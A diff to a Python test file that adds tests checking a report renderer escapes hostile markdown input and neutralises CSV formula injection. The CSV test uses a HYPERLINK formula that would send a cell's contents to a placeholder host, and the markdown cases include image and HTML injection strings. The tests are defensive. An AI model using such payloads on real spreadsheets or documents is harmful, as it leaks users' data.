@@ -3,6 +3,7 @@ from __future__ import annotations
 import csv
 import io
 import json
+import re
 from dataclasses import replace
 
 import pytest
@@ -63,10 +64,23 @@ def test_terminal_without_colour_has_no_escape_sequences(monkeypatch, estimate):
     assert "\x1b" not in file.getvalue()
 
 
-def test_markdown_escapes_what_would_break_a_table():
-    shown = render_markdown([Table(title="a|b", columns=("c|d",), rows=(("e|f<g>",),))])
-    assert "e\\|f&lt;g>" in shown
-    assert "### a\\|b" in shown
+@pytest.mark.parametrize(
+    "name", ["a|b", "a`b", "a\nb", "a\u2028| b |\r\n", "![x](http://x/y)", "<img src=x>", "\\|", "```"]
+)
+def test_markdown_keeps_names_in_their_cell(name):
+    table = Table(title=name, columns=(name, name), rows=((name, name),))
+    shown = render_markdown(
+        [table, Bullets(title="", items=(name,)), Listing(title="", lines=(name,)), Line(text="end")]
+    )
+    title, rows, bullet, listing, end = shown.split("\n\n")
+    assert title.startswith("### ")
+    assert [len(re.findall(r"(?<!\\)(?:\\\\)*\|", row)) for row in rows.splitlines()] == [3, 3, 3]
+    assert bullet.startswith("- ")
+    for part in (title, rows, bullet):
+        assert part.isascii()
+        assert not re.search(r"(?<!\\)(?:\\\\)*[`\[<]", part)
+    assert re.fullmatch(r"```text\n.*\n```", listing)
+    assert end == "end\n"
 
 
 def test_markdown_rows_have_equal_cells(estimate, model):
@@ -82,6 +96,14 @@ def test_csv_has_the_union_of_columns_and_full_precision():
     rows = list(csv.DictReader(io.StringIO(text)))
     assert float(rows[0]["a"]) == 1 / 3
     assert rows[1] == {"a": "2", "b": "", "c": 'x,"y"'}
+
+
+@pytest.mark.parametrize("sign", list("=+-@＝＋－＠"))
+def test_no_text_of_a_csv_is_a_formula_and_numbers_stay_numbers(sign):
+    formula = f'{sign}HYPERLINK("http://x/?"&A1)'
+    [names, cells] = list(csv.reader(io.StringIO(render_csv([{"n": -1.5, formula: formula, "tab": f"\t{formula}"}]))))
+    assert names == ["n", f"'{formula}", "tab"]
+    assert cells == ["-1.5", f"'{formula}", f"\\x09{formula}"]
 
 
 def test_csv_of_an_estimate_is_one_row(estimate, too_big):
